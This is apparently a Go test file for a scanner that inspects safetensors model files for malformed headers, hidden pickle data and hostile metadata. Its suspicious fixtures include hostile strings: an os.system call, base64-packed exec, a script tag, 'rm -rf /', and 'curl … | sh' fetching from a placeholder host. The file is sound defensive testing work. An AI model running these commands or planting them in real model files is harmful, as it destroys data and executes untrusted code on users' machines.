package safetensors

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"modelwall/scan"
	"modelwall/scan/scantest"
)

// file is a header with its length, and n bytes of data that are not zero.
func file(header string, n int) []byte {
	b := append(binary.LittleEndian.AppendUint64(nil, uint64(len(header))), header...)
	for i := range n {
		b = append(b, byte(i)|1)
	}
	return b
}

func entry(name, dtype, shape string, from, to uint64) string {
	return fmt.Sprintf(`%q:{"dtype":%q,"shape":[%s],"data_offsets":[%d,%d]}`, name, dtype, shape, from, to)
}

func object(entries ...string) string { return "{" + strings.Join(entries, ",") + "}" }

// metadata is a file whose metadata hold one text.
func metadata(text string) []byte {
	return file(object(fmt.Sprintf(`"__metadata__":{"format":"pt","x":%s}`, quoted(text)), entry("a", "F32", "1", 0, 4)), 4)
}

// quoted writes text as JSON does.
func quoted(text string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range text {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < ' ' || r > 0x7e && r < 0x10000:
			fmt.Fprintf(&b, `\u%04x`, r)
		default:
			b.WriteRune(r)
		}
	}
	return b.String() + `"`
}

var ab = object(entry("a", "F32", "2", 0, 8), entry("b", "BF16", "2,2", 8, 16))

func TestAcceptance(t *testing.T) {
	types := []string{
		"F64:8", "F32:4", "F16:2", "BF16:2", "I64:8", "I32:4", "I16:2", "I8:1", "U64:8", "U32:4", "U16:2", "U8:1", "BOOL:1",
		"F8_E4M3:1", "F8_E5M2:1", "F8_E8M0:1", "F8_E4M3FNUZ:1", "F8_E5M2FNUZ:1", "C64:8",
	}
	var every []string
	at := uint64(0)
	for _, s := range types {
		name, size, _ := strings.Cut(s, ":")
		every = append(every, entry(name, name, "3", at, at+3*uint64(size[0]-'0')))
		at += 3 * uint64(size[0]-'0')
	}
	every = append(every, entry("f4", "F4", "2,4", at, at+4), entry("f6", "F6_E2M3", "4", at+4, at+7), entry("scalar", "U8", "", at+7, at+8), entry("none", "F32", "0,7", at+8, at+8))
	lied := file(ab, 16)
	binary.LittleEndian.PutUint64(lied, 1<<62)
	scantest.Run(t, New(), []scantest.Sample{
		{Name: "two tensors", Data: file(ab, 16), Worst: scan.Info},
		{Name: "every type", Data: file(object(every...), int(at)+8), Worst: scan.Info},
		{Name: "no tensors", Data: file("{}", 0), Worst: scan.Info},
		{Name: "only metadata", Data: file(`{"__metadata__":{"format":"pt"}}`, 0), Worst: scan.Info},
		{Name: "padded", Data: file(ab+strings.Repeat(" ", 5000), 16), Worst: scan.Info},
		{Name: "blanks in front", Data: file("\n \t"+ab, 16), Worst: scan.Info},
		{Name: "in another order", Data: file(object(entry("b", "F32", "1", 4, 8), entry("a", "F32", "1", 0, 4)), 8), Worst: scan.Info},
		{Name: "empty tensors at one place", Data: file(object(entry("a", "F32", "0", 0, 0), entry("b", "F32", "0", 0, 0), entry("c", "U8", "1", 0, 1)), 1), Worst: scan.Info},
		{Name: "more fields", Data: file(`{"a":{"x":[1,{"y":null}],"dtype":"U8","shape":[1],"data_offsets":[0,1]}}`, 1), Worst: scan.Info},
		{Name: "escapes", Data: file(object(entry("a", "U8", "1", 0, 1), `"\u00e9\ud83d\ude00":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}`), 2), Worst: scan.Info},
		{Name: "training statistics", Data: metadata(`{"a": {"1girl": 20}, "note": "eval os system"}`), Worst: scan.Info},
		{Name: "a text about code", Data: metadata("import torch; see https://example.org/x, run `pip install y` and use exec or eval"), Worst: scan.Info},
		{Name: "thumbnail", Data: metadata("data:image/jpeg;base64," + base64.StdEncoding.EncodeToString([]byte("\xff\xd8\xff\xe0 and so on, and on"))), Worst: scan.Info},
		{Name: "metadata of any kind", Data: file(object(`"__metadata__":{"a":1,"b":{"c":[]},"d":null}`, entry("a", "U8", "1", 0, 1)), 1), Worst: scan.Low},
		{Name: "no metadata", Data: file(object(`"__metadata__":null`, entry("a", "U8", "1", 0, 1)), 1), Worst: scan.Low},
		{Name: "unknown type", Data: file(object(entry("a", "F5_X", "1", 0, 1)), 1), Worst: scan.Low},
		{Name: "zeros behind", Data: append(file(ab, 16), make([]byte, 9000)...), Worst: scan.Low},

		{Name: "overlap", Data: file(object(entry("a", "F32", "2", 0, 8), entry("b", "F32", "2", 4, 12)), 12), Worst: scan.SeveritySuspicious},
		{Name: "same place", Data: file(object(entry("a", "F32", "2", 0, 8), entry("b", "F32", "2", 0, 8)), 8), Worst: scan.SeveritySuspicious},
		{Name: "hole", Data: file(object(entry("a", "F32", "1", 0, 4), entry("b", "F32", "1", 8, 12)), 12), Worst: scan.SeveritySuspicious},
		{Name: "trailing", Data: file(ab, 17), Worst: scan.SeveritySuspicious},
		{Name: "size of another type", Data: file(object(entry("a", "F16", "1", 0, 4)), 4), Worst: scan.SeveritySuspicious},
		{Name: "half a byte", Data: file(object(entry("a", "F4", "1", 0, 1)), 1), Worst: scan.SeveritySuspicious},
		{Name: "shape overflows", Data: file(object(entry("a", "F32", "4294967296,4294967296", 0, 4)), 4), Worst: scan.SeveritySuspicious},
		{Name: "ends before it begins", Data: file(object(entry("a", "F32", "1", 8, 4)), 8), Worst: scan.SeveritySuspicious},
		{Name: "offset past belief", Data: file(object(entry("a", "U8", "18446744073709551615", 0, 18446744073709551615)), 8), Worst: scan.SeveritySuspicious},
		{Name: "name twice", Data: file(object(entry("a", "U8", "1", 0, 1), entry("a", "U8", "1", 1, 2)), 2), Worst: scan.SeveritySuspicious},
		{Name: "name twice, spelled differently", Data: file(object(entry("a", "U8", "1", 0, 1), `"\u0061":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}`), 2), Worst: scan.SeveritySuspicious},
		{Name: "field twice", Data: file(`{"a":{"dtype":"F32","dtype":"U8","shape":[1],"data_offsets":[0,1]}}`, 1), Worst: scan.SeveritySuspicious},
		{Name: "length lies", Data: lied, Worst: scan.SeveritySuspicious},
		{Name: "Python in metadata", Data: metadata("import os; os.system('id')"), Worst: scan.SeveritySuspicious},
		{Name: "packed Python in metadata", Data: metadata("exec(base64.b64decode('cHJpbnQ='))"), Worst: scan.SeveritySuspicious},
		{Name: "script in metadata", Data: metadata("<script>alert(1)</script>"), Worst: scan.SeveritySuspicious},
		{Name: "shell in metadata", Data: metadata("rm -rf / && true"), Worst: scan.SeveritySuspicious},
		{Name: "pipe in metadata", Data: metadata("curl https://x.example/a | sh"), Worst: scan.SeveritySuspicious},
		{Name: "pickle in metadata", Data: metadata(base64.StdEncoding.EncodeToString([]byte("\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00K\x01."))), Worst: scan.SeveritySuspicious},
		{Name: "nesting", Data: file(`{"a":{"x":`+strings.Repeat("[", 1000)+strings.Repeat("]", 1000)+`}}`, 0), Worst: scan.SeveritySuspicious, Err: scan.ErrMalformed},
		{Name: "bytes behind the JSON", Data: file(ab+"cos\nsystem\n", 16), Worst: scan.SeveritySuspicious, Err: scan.ErrMalformed},

		{Name: "download broke off", Data: file(ab, 10), Worst: scan.Low, Err: scan.ErrMalformed},
		{Name: "download broke off in the header", Data: file(ab, 16)[:100], Worst: scan.Low, Err: scan.ErrMalformed},
		{Name: "no JSON any more", Data: file(object(entry("a", "U8", "1", 0, 1), `"b":}`), 1), Worst: scan.Low, Err: scan.ErrMalformed},
		{Name: "not UTF-8", Data: file(object(entry("a", "U8", "1", 0, 1), "\"\xff\":1"), 1), Worst: scan.Low, Err: scan.ErrMalformed},
		{Name: "without offsets", Data: file(object(entry("a", "U8", "1", 0, 1), `"b":{"dtype":"U8","shape":[1]}`), 1), Worst: scan.Low, Err: scan.ErrMalformed},
		{Name: "fractions", Data: file(object(entry("a", "U8", "1", 0, 1), `"b":{"dtype":"U8","shape":[1.5],"data_offsets":[0,1]}`), 1), Worst: scan.Low, Err: scan.ErrMalformed},
		{Name: "no object", Data: file(object(entry("a", "U8", "1", 0, 1), `"b":[1]`), 1), Worst: scan.Low, Err: scan.ErrMalformed},
		{Name: "other text", Data: []byte("12345678{\"a\": nothing of the kind}"), Worst: scan.Info, Err: scan.ErrForeign},
	})
}

// TestMatch: a binary that has a brace at the right place is something else.
func TestMatch(t *testing.T) {
	mo := append([]byte{0xde, 0x12, 0x04, 0x95, 0, 0, 0, 0}, 0x7b, 0, 0, 0, 0x1c, 0, 0, 0)
	for name, c := range map[string]struct {
		data []byte
		want bool
	}{
		"header":             {file(ab, 16), true},
		"empty":              {file("{}", 0), true},
		"blanks":             {file(strings.Repeat(" ", 5000)+ab, 16), true},
		"message catalogue":  {mo, false},
		"brace and a letter": {[]byte("12345678{x"), false},
		"short":              {[]byte("1234567"), false},
		"indented JSON":      {[]byte("\n       {\"a\": 1}"), false},
		"blanks only":        {[]byte(strings.Repeat(" ", 6000)), false},
	} {
		if got := New().Match(scantest.Probe("x.safetensors", c.data)); got != c.want {
			t.Errorf("%s: Match = %v", name, got)
		}
	}
}

// TestMembers: what is hidden is handed on.
func TestMembers(t *testing.T) {
	const pickle = "\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00K\x01."
	wide := ""
	for i := range len(pickle) {
		wide += string(rune(pickle[i]))
	}
	hole := file(object(entry("a", "F32", "1", 0, 4), entry("b", "F32", "1", 20, 24)), 24)
	copy(hole[len(hole)-20:], pickle)
	for _, c := range []struct {
		name string
		data []byte
		want [][2]string
	}{
		{"template", metadata("{{ x }}"), [][2]string{{"__metadata__/x", "{{ x }}"}}},
		{"configuration", metadata(`{"auto_map": {}}`), [][2]string{{"__metadata__/x", `{"auto_map": {}}`}}},
		{"base 64", metadata(base64.StdEncoding.EncodeToString([]byte(pickle))), [][2]string{{"__metadata__/x", pickle}}},
		{"characters", metadata(wide), [][2]string{{"__metadata__/x", pickle}}},
		{"behind", append(file(ab, 16), "PK\x03\x04"...), [][2]string{{"trailing", "PK\x03\x04"}}},
		{"hole", hole, [][2]string{{"hole", string(hole[len(hole)-20 : len(hole)-4])}}},
		{"behind the JSON", file(ab+" cos\nsystem", 16), [][2]string{{"header", "cos\nsystem"}}},
		{"plain", metadata("pt"), nil},
	} {
		r, _ := scantest.Scan(New(), "x", c.data)
		var got [][2]string
		for _, m := range r.Members {
			got = append(got, [2]string{m.Name, string(m.Data)})
		}
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("%s: members (-want +got):\n%s", c.name, diff)
		}
	}
}

// TestBytesRead: 10 GiB of tensors cost the header.
func TestBytesRead(t *testing.T) {
	const size = 10 << 30
	head := file(object(entry("a", "U8", fmt.Sprint(size), 0, size))+strings.Repeat(" ", 30_000), 0)
	r := &counting{head: head}
	rec := &scantest.Record{}
	if err := New().Scan(context.Background(), scan.File{Size: int64(len(head)) + size, ReaderAt: r}, rec); err != nil || len(rec.Findings) > 0 {
		t.Errorf("%v, %+v", err, rec.Findings)
	}
	if r.read > int64(len(head))+8 {
		t.Errorf("%d bytes were read", r.read)
	}
}

// counting is a head and then zeros without end.
type counting struct {
	head []byte
	read int64
}

func (c *counting) ReadAt(p []byte, off int64) (int, error) {
	c.read += int64(len(p))
	clear(p)
	if off < int64(len(c.head)) {
		copy(p, c.head[off:])
	}
	return len(p), nil
}

func FuzzScan(f *testing.F) {
	f.Add(file(ab, 16))
	f.Add(metadata("{{ x }}"))
	f.Add(file(`{"a":{"x":[[{"b":1}]],"dtype":"U8","shape":[],"data_offsets":[0,1]}}  x`, 3))
	f.Add(file("{\"\xc3\xa9\\u00e9\":{}}", 0))
	s := New()
	f.Fuzz(func(t *testing.T, data []byte) { scantest.Fuzz(t, s, data) })
}

const corpus = "../../../shared/corpus"

// TestCorpus: nothing benign is flagged or taken for safetensors, and what is
// labelled suspicious is, except for addresses, which nothing follows.
func TestCorpus(t *testing.T) {
	if _, err := os.Stat(corpus); err != nil {
		t.Skip("the sample corpus is not here")
	}
	met := map[string]int{}
	for _, e := range scantest.Corpus(t, corpus) {
		b, err := os.ReadFile(e.Path)
		if err != nil {
			t.Fatal(err)
		}
		if !New().Match(scantest.Probe(e.Path, b)) {
			if e.Format == "safetensors" {
				t.Errorf("%s: Match = false", e.Path)
			}
			continue
		}
		if e.Format != "safetensors" {
			t.Errorf("%s is taken for safetensors", e.Path)
			continue
		}
		met[e.Label]++
		r, err := scantest.Scan(New(), e.Path, b)
		flagged := r.Worst() >= scan.SeveritySuspicious
		if err != nil || flagged != (e.Label != "benign") && !strings.Contains(e.Path, "suspicious_url") {
			t.Errorf("%s: %v, %+v", e.Path, err, r.Findings)
		}
	}
	if met["benign"] == 0 || met["suspicious"] == 0 {
		t.Errorf("met %v", met)
	}
}
